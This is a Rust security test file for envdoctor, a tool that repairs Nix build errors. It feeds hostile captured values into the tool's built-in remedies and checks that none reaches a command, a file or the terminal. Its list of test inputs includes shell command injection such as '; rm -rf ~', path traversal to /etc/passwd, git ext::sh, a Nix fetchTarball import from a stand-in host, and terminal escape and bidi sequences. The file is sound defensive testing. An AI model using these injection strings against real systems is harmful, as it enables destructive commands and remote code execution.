//! The remedies of all built-in rules, and logs whose captured names, paths and hashes somebody wrote to do harm.
//!
//! The logs are the rules' own examples with other values in the captures' places. Every tool is a stand-in that only notes
//! how it was called.

use std::{collections::BTreeSet, fs, os::unix::fs::PermissionsExt, path::PathBuf};

use envdoctor::{
    built_in,
    rules::{Action, Remedy, Rule, Template},
    scan::compile,
};

use regex::Regex;

use crate::{lab::Lab, lab::output::Ran, tree::Tree};

/// In every harmful value, so that it is known again wherever it turns up.
const MARK: &str = "EvIl";

/// What a log may hold where a tool writes a name, a path or a hash.
fn harmful_values() -> Vec<String> {
    [
        "$(touch EvIl)",
        "`touch EvIl`",
        "; rm -rf ~ # EvIl",
        "&& touch EvIl",
        "| touch EvIl",
        "EvIl$IFS$9x",
        "--option",
        "--option post-build-hook ./EvIl",
        "--EvIl=x",
        "-EvIl",
        "../../etc/passwd",
        "../../../EvIl",
        "/etc/passwd",
        "/EvIl",
        "../EvIl.nix",
        "~/EvIl.nix",
        ".",
        "..",
        "./",
        "",
        " ",
        "*",
        "**/*.nix",
        "[E]vIl.nix",
        ".git/config",
        ".git/hooks/EvIl",
        ".hidden/EvIl.nix",
        "link/EvIl.nix",
        "${EvIl}",
        "${attribute}",
        "${builtins.readFile ./EvIl.nix}",
        "EvIl\"; evil = \"",
        "EvIl''; evil = ''",
        "x;y=(import(builtins.fetchTarball(\"http://EvIl.example.com\")))",
        "ext::sh -c EvIl",
        "EvIl\u{1b}]0;title\u{7}",
        "EvIl\u{1b}[2J\u{1b}[8m",
        "EvIl\u{1b}P1$r\u{1b}\\",
        "EvIl\u{7}\u{8}\u{c}",
        "EvIl\u{9b}2J",
        "EvIl\u{9d}0;title\u{9c}",
        "EvIl\u{202e}txt.nix",
        "EvIl\u{2066}\u{200f}\u{61c}",
        "EvIl\0",
        "EvIl\r",
    ]
    .map(str::to_owned)
    .to_vec()
}

#[test]
fn no_harmful_value_reaches_a_command_or_a_file() {
    let Some(lab) = lab() else { return };
    let values = harmful_values();
    for (number, rule) in rules().iter().enumerate() {
        // Each value in one place, and in another one of the next rule: all in all places takes minutes.
        let logs = values.iter().enumerate().filter_map(|(at, value)| {
            let logs = logs(rule, value);
            logs.get((at + number) % logs.len().max(1)).cloned()
        });
        let log: String = logs.collect();
        try_log(&lab, rule, log.as_bytes());
    }
}

#[test]
fn no_endless_value_reaches_a_command_or_a_file() {
    let Some(lab) = lab() else { return };
    let endless = MARK.repeat((1 << 20) / MARK.len());
    let rules: Vec<_> = rules().into_iter().filter(takes_a_capture).collect();
    assert!(rules.len() > 5, "remedies take what was captured");
    for rule in rules {
        let logs = logs(&rule, &endless);
        try_log(&lab, &rule, logs.last().unwrap().as_bytes());
    }
}

#[test]
fn what_is_no_text_reaches_no_command_and_no_file() {
    let Some(lab) = lab() else { return };
    for rule in rules() {
        let (before, after) = (b"EvIl\xff\xc3\x28\xed\xa0\x80", MARK.as_bytes());
        let logs = logs(&rule, MARK).concat().into_bytes();
        let mut log = Vec::new();
        let mut rest = &logs[..];
        while let Some(at) = rest.windows(after.len()).position(|window| window == after) {
            log.extend_from_slice(&rest[..at]);
            log.extend_from_slice(before);
            rest = &rest[at + after.len()..];
        }
        log.extend_from_slice(rest);
        try_log(&lab, &rule, &log);
    }
}

/// The same stand-ins note what a log without harm brings about: were they never called, the tests above would say nothing.
#[test]
fn a_harmless_value_does_reach_its_command() {
    let Some(lab) = lab() else { return };
    let log = "error:\n       … while evaluating the attribute 'dep.result'\n         at «flakes-internal»/call-flake.nix:94:7:\n\n       \
               error: NAR hash mismatch in input 'path:/home/user/dep', expected 'sha256-A=' but got 'sha256-B='\n";
    fix(&lab, log.as_bytes(), "flake-input-nar-hash-mismatch", "json");
    assert!(calls(&lab).contains(&["nix", "flake", "update", "dep"].map(str::to_owned).to_vec()));
}

/// The rules that can do something.
fn rules() -> Vec<Rule> {
    let does = |rule: &&Rule| rule.remedies.iter().any(|remedy| !matches!(remedy.action, Action::Tell(_)));
    let rules: Vec<_> = built_in::rules().rules().iter().filter(does).cloned().collect();
    assert!(rules.len() > 30, "the built-in rules have remedies");
    rules
}

/// Whether one of its remedies does something with what was captured.
fn takes_a_capture(rule: &Rule) -> bool {
    let templates = |action: &Action| -> Vec<Template> {
        match action {
            Action::Run(run) => run.argv.clone(),
            Action::Edit(edit) => edit.files.iter().chain(edit.kind.templates()).cloned().collect(),
            Action::Remove(paths) | Action::Track(paths) => paths.clone(),
            Action::Tell(_) => Vec::new(),
        }
    };
    let mut all = rule.remedies.iter().flat_map(|remedy| templates(&remedy.action));
    all.any(|template| template.placeholders().any(|name| !name.contains('.')))
}

/// The rule's examples with that value in the place of each capture, and of all of them.
fn logs(rule: &Rule, value: &str) -> Vec<String> {
    let mut logs = Vec::new();
    for symptom in rule.symptoms.iter().filter(|symptom| !symptom.captures.is_empty()) {
        let regex = compile(&symptom.pattern).unwrap();
        for example in &rule.examples {
            let mut found = regex.create_captures();
            regex.captures(&example.text, &mut found);
            let spans = symptom.captures.iter().filter_map(|name| found.get_group_by_name(name));
            let spans: Vec<_> = spans.map(|span| span.range()).collect();
            for span in &spans {
                logs.push(replaced(&example.text, std::slice::from_ref(span), value));
            }
            logs.push(replaced(&example.text, &spans, value));
        }
    }
    logs
}

/// A text with a value in these places; of two places that overlap, in the first.
fn replaced(text: &str, spans: &[std::ops::Range<usize>], value: &str) -> String {
    let mut spans = spans.to_vec();
    spans.sort_by_key(|span| span.start);
    let mut out = String::new();
    let mut done = 0;
    for span in spans.iter().filter(|span| !span.is_empty()) {
        if span.start >= done {
            out.push_str(&text[done..span.start]);
            out.push_str(value);
            done = span.end;
        }
    }
    out.push_str(&text[done..]);
    out.push('\n');
    out
}

/// Repairs what a log shows: nothing is done that is not done for the examples as they are, and to no file anything.
fn try_log(lab: &Lab, rule: &Rule, log: &[u8]) {
    let before = tree(lab);
    let harmless: String = rule.examples.iter().map(|example| format!("{}\n", example.text)).collect();
    fix(lab, harmless.as_bytes(), &rule.id, "json");
    let allowed = calls(lab);
    for format in ["human", "json"] {
        let ran = fix(lab, log, &rule.id, format);
        ran.must((0..=3).contains(&ran.code()), &format!("{}: the exit code is one of ours", rule.id));
        nothing_hidden(&ran, &rule.id);
        for call in calls(lab) {
            let harmless = allowed.iter().any(|known| differs_in_names(known, &call));
            ran.must(harmless, &format!("{}: {call:?} was run", rule.id));
        }
    }
    let differences = before.differences(&tree(lab));
    assert!(differences.is_empty(), "{}: {}", rule.id, differences.join("\n"));
}

/// Whether a call is a known one with nothing but other names in it: what is left of a value when its escapes are gone can
/// be one.
fn differs_in_names(known: &[String], call: &[String]) -> bool {
    let is_name = |word: &str| {
        !word.starts_with('-') && word.chars().all(|c| c.is_ascii_alphanumeric() || matches!(c, '_' | '-'))
    };
    known.len() == call.len() && known.iter().zip(call).all(|(known, word)| known == word || is_name(word))
}

/// `fix` on a log, with all the consent that can be given beforehand: in colour, since that leaves escapes as they are.
fn fix(lab: &Lab, log: &[u8], rule: &str, format: &str) -> Ran {
    let file = lab.path("a.log");
    fs::write(&file, log).unwrap();
    let consent = ["fix", "-v", "--yes=system", "--allow", rule];
    let fix = [&consent[..], &["--color=always", "--format", format, "--log", "../a.log"]].concat();
    let ran = lab.doctor(&fix);
    fs::remove_file(&file).unwrap();
    ran
}

/// The programs that the built-in rules run.
fn programs() -> BTreeSet<String> {
    let program = |remedy: &Remedy| match &remedy.action {
        Action::Run(run) => Some(run.argv[0].0.clone()),
        _ => None,
    };
    built_in::rules().rules().iter().flat_map(|rule| rule.remedies.iter().filter_map(program)).collect()
}

/// Nothing but our own colours is there that a terminal obeys, and nothing that hides what is there.
fn nothing_hidden(ran: &Ran, rule: &str) {
    let hidden = |c: char| {
        let bidi = matches!(c, '\u{61c}' | '\u{200e}' | '\u{200f}' | '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}');
        bidi || (c.is_control() && !matches!(c, '\n' | '\t'))
    };
    let colours = Regex::new("\u{1b}\\[[0-9;]*m").unwrap();
    for (stream, text) in [("stdout", &ran.stdout), ("stderr", &ran.stderr)] {
        let text = colours.replace_all(text, "");
        if let Some(at) = text.find(hidden) {
            let from = text.floor_char_boundary(at.saturating_sub(200));
            let to = text.floor_char_boundary(at + 50);
            panic!("{rule}: {stream} holds {:?}", &text[from..to]);
        }
    }
}

/// A machine on which every tool that a remedy runs is a stand-in, and a project with what harm could be done to.
fn lab() -> Option<Lab> {
    let mut lab = Lab::host(&["sh"])?;
    let tools = lab.path("tools");
    fs::create_dir(&tools).unwrap();
    let mut programs: BTreeSet<String> =
        ["git", "nix", "direnv", "touch", "rm", "sh"].map(str::to_owned).into();
    programs.extend(self::programs());
    for program in programs {
        let versions = "Nix) 2.34.8";
        let script = format!(
            "#!/bin/sh\n[ \"$1\" = --version ] && {{ echo '{program} ({versions}'; exit; }}\n\
             {{ printf '%s\\0' \"${{0##*/}}\" \"$@\"; printf '\\n\\0'; }} >> {}\n",
            lab.path("calls").display()
        );
        fs::write(tools.join(&program), script).unwrap();
        fs::set_permissions(tools.join(&program), fs::Permissions::from_mode(0o755)).unwrap();
    }
    lab.set("PATH", tools.to_str().unwrap());

    let nix = "let pkgs = import ./pkgs.nix; in\n{\n  a = pkgs.elxir_1_17;\n}\n";
    for file in ["flake.nix", "EvIl.nix", ".hidden/EvIl.nix", ".git/config", ".git/hooks/EvIl"] {
        lab.write(file, nix);
    }
    lab.write("hash.nix", "{ hash = \"sha256-q8b9WV/AedMRTUtxpNhLHR0Ped8ecPiBMhLypl2JFt8=\"; }\n");
    fs::create_dir(lab.path("outside")).unwrap();
    for file in ["EvIl.nix", "EvIl", "home/EvIl.nix", "home/EvIl", "outside/EvIl.nix"] {
        fs::write(lab.path(file), nix).unwrap();
    }
    std::os::unix::fs::symlink("../outside", lab.project().join("link")).unwrap();
    Some(lab)
}

/// Everything in the lab but what envdoctor keeps for itself, and what the stand-ins note.
fn tree(lab: &Lab) -> Tree {
    let own = ["home/.local/state/envdoctor", "home/.cache/envdoctor", "calls"];
    Tree::of(&lab.path(""), &["."], &own)
}

/// How the stand-ins were called since this was last asked.
fn calls(lab: &Lab) -> Vec<Vec<String>> {
    let file: PathBuf = lab.path("calls");
    let noted = fs::read(&file).unwrap_or_default();
    let _ = fs::remove_file(file);
    let text = String::from_utf8_lossy(&noted).into_owned();
    let calls = text.split("\0\n\0").filter(|call| !call.is_empty());
    calls.map(|call| call.split('\0').map(str::to_owned).collect()).collect()
}
